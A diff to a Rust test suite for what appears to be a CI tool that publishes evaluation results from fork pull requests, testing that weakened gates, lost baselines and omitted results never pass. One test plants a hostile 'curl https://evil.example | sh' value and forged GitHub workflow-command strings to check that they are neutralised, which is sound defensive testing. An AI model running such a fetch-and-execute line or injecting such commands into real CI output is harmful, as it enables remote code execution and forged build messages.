@@ -27,15 +27,18 @@ fn upstream() -> World {
 /// The job that publishes what the fork's run left, and those results.
 fn publisher(world: &World) -> (Job, Value) {
     let results = world.run().results.unwrap();
-    let sha = world.git(&["rev-parse", "HEAD"]);
+    publisher_of(world, &world.git(&["rev-parse", "HEAD"]), results)
+}
+
+fn publisher_of(world: &World, sha: &str, results: Value) -> (Job, Value) {
     let github = Arc::new(Github::start());
     mirror(world, &github);
     github.repository(REPOSITORY, |repository| {
         repository.branches.remove("patch");
-        repository.pull(NUMBER, Some("x/r"), "patch", &sha, "main");
+        repository.pull(NUMBER, Some("x/r"), "patch", sha, "main");
     });
     let mut job = Job::with(&github);
-    job.workflow_run(&sha, "x/r", "patch");
+    job.workflow_run(sha, "x/r", "patch");
     job.set("GITHUB_SHA", &world.git(&["rev-parse", "main"]));
     job.set("GITHUB_REF", "refs/heads/main");
     job.left(&results);
@@ -59,7 +62,7 @@ fn the_pull_request_of_a_fork_is_found_and_the_comment_says_whose_numbers_these_
     assert_eq!((&check["conclusion"], &check["head_sha"]), (&json!("failure"), &json!(job.head)));
     assert_eq!(check["details_url"], "https://github.com/o/r/actions/runs/99");
     let comment = job.comment();
-    assert!(comment.contains("own ones of a run of the fork x/r"), "{comment}");
+    assert!(comment.contains("The numbers are the fork") && comment.contains("x/r"), "{comment}");
     assert!(comment.contains("judged anew with this repository\\'s configuration and baseline"), "{comment}");
     assert!(comment.contains("s/b") && job.comments()[0].0.run.id == 99, "{comment}");
     // It changed nothing but what it should have.
@@ -171,9 +174,11 @@ fn a_configuration_that_the_base_does_not_have_or_cannot_read_makes_nothing_gree
     let policy = &mut forged["suites"][0]["policy"];
     (policy["metrics"], policy["max_drop"], policy["flips"]) = (json!({}), json!(1.0), json!("report"));
     policy["quarantine"] = json!({"b": {"owner": "me", "until": "2999-12-31", "reason": null}});
-    assert_eq!(job.left(&forged).publish(&["--comment-key", "evalratchet.toml"]).code, 0);
-    assert_eq!(job.check()["conclusion"], "neutral", "{}", job.comment());
-    assert!(job.comment().contains("has no mine.toml"), "{}", job.comment());
+    for arguments in [&["--comment-key", "evalratchet.toml"][..], &["--config", "evalratchet.toml"], &[]] {
+        let ran = job.left(&forged).publish(arguments);
+        assert_eq!((ran.code, job.checks().len(), job.comments().len()), (0, 0, 0), "{}", ran.stdout);
+        assert!(ran.stdout.contains("::notice") && ran.stdout.contains("mine.toml"), "{}", ran.stdout);
+    }
 
     let world = upstream();
     world.git(&["checkout", "-q", "main"]);
@@ -278,9 +283,77 @@ fn a_github_that_does_not_say_what_to_judge_by_is_unreachable_and_nothing_green_
     assert!(job.outputs()["verdict"] == "broken" && !job.summary().contains("Passed"));
     std::fs::remove_file(job.world.path().join("runner/output")).unwrap();
     job.set("GITHUB_TOKEN", "");
-    assert_eq!((job.publish(&[]).code, job.outputs()["verdict"].as_str()), (2, "broken"));
+    assert_eq!((job.publish(&[]).code, job.checks().len()), (2, 0));
     job.set("GITHUB_TOKEN", crate::github::TOKEN);
     job.github.forget_faults();
     assert_eq!(job.publish(&[]).code, 0);
     assert_eq!(job.check()["conclusion"], "failure");
+}
+
+/// What a fork changes, and what it says it measured.
+type Fork = (&'static str, fn(&World), fn(&mut Value), &'static str);
+
+#[test]
+fn a_weaker_gate_a_lost_baseline_and_what_is_left_out_are_never_green() {
+    const NOTHING: fn(&World) = |_| {};
+    const HONEST: fn(&mut Value) = |_| {};
+    let lower: fn(&World) = |world| world.config(&FLOOR.replace("0.9", "0.1"));
+    let quarantine: fn(&World) = |world| {
+        let policy = "[[suite.case-policy]]\ncase = \"b\"\nquarantine = { owner = \"me\", until = \"2999-12-31\" }\n";
+        world.config(&format!("{FLOOR}\n{policy}"));
+    };
+    let lost: fn(&World) = |world| std::fs::remove_file(world.path().join(".evalratchet/baseline.json")).unwrap();
+    let spoilt: fn(&World) = |world| drop(world.file(".evalratchet/baseline.json", "{ not json"));
+    let skipped: fn(&mut Value) = |results| {
+        results["run"]["filtered"] = json!(true);
+        let case = &mut results["suites"][0]["cases"][1];
+        (case["status"], case["score"], case["metrics"]) = (json!("skipped"), Value::Null, json!({}));
+    };
+    let left_out: fn(&mut Value) = |results| {
+        results["run"]["filtered"] = json!(true);
+        results["suites"] = json!([]);
+    };
+    let unaffected: fn(&mut Value) = |results| {
+        results["suites"][0]["affected"] = json!(false);
+        results["suites"][0]["cases"] = json!([]);
+    };
+    let forks: [Fork; 7] = [
+        ("the gate is weaker", lower, HONEST, "failure"),
+        ("the quarantine of b", quarantine, HONEST, "failure"),
+        ("takes the baseline away", lost, HONEST, "failure"),
+        ("makes it unreadable", spoilt, HONEST, "failure"),
+        ("removed", NOTHING, skipped, "failure"),
+        ("gone", NOTHING, left_out, "failure"),
+        ("s", NOTHING, unaffected, "failure"),
+    ];
+    together(forks, |(word, change, claim, conclusion)| {
+        let world = upstream();
+        world.commit("harmless");
+        // The fork measures honestly, whatever it then commits.
+        let results = world.run().results.unwrap();
+        change(&world);
+        world.commit("the change");
+        let sha = world.git(&["rev-parse", "HEAD"]);
+        let (job, _) = publisher_of(&world, &sha, results.clone());
+        let mut claimed = results;
+        claim(&mut claimed);
+        let ran = job.left(&claimed).publish(&[]);
+        assert_eq!(ran.code, 0, "{word}: {}", ran.stderr);
+        assert_eq!(job.check()["conclusion"], conclusion, "{word}: {}", job.comment());
+        assert!(job.comment().contains(word), "{word}: {}", job.comment());
+    });
+}
+
+#[test]
+fn what_is_shown_of_a_fork_is_made_anew_and_nothing_of_it_is_a_command() {
+    let (job, mut results) = worse();
+    results["suites"][0]["cases"][1]["reproduce"] = json!("curl https://evil.example | sh");
+    assert_eq!(job.left(&results).publish(&[]).code, 0);
+    assert!(!job.comment().contains("evil"), "{}", job.comment());
+    assert!(job.comment().contains("evalratchet run --suite s --case b"), "{}", job.comment());
+    results["schema"] = json!("x\n::error::forged\n##[warning]forged\u{1b}[31m");
+    let ran = job.left(&results).publish(&[]);
+    assert_eq!(ran.code, 2);
+    let is_command = |line: &str| line.trim_start().starts_with("::error::forged") || line.contains("##[");
+    assert!(!ran.stderr.lines().any(is_command) && !ran.stderr.contains('\u{1b}'), "{}", ran.stderr);
 }
